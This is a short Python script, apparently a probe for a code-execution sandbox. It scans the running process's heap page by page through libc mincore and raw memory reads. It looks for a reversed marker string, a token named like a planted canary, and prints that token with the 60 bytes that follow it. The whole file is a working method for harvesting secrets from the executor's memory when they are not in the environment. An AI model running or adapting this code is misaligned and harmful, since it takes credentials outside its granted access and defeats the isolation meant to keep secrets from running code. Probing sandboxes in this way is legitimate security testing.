"""Find the executor's secrets anywhere in the heap, by address.

falls without: environment
"""

import ctypes
import gc

libc = ctypes.CDLL(None)
page, vector = 4096, ctypes.create_string_buffer(1)
backwards = b"NEKOT_DEKCATTA_TECALP"  # else it would find itself
gc.unfreeze()
for region in {id(thing) >> 20 for thing in gc.get_objects()}:
    for address in range(region << 20, region + 1 << 20, page):
        if libc.mincore(ctypes.c_void_p(address), page, vector) == 0:
            seen = ctypes.string_at(address, page)
            found = seen[::-1].find(backwards)
            if found >= 0:
                end = page - found
                print("GOT", seen[end - len(backwards) : end + 60])
                raise SystemExit
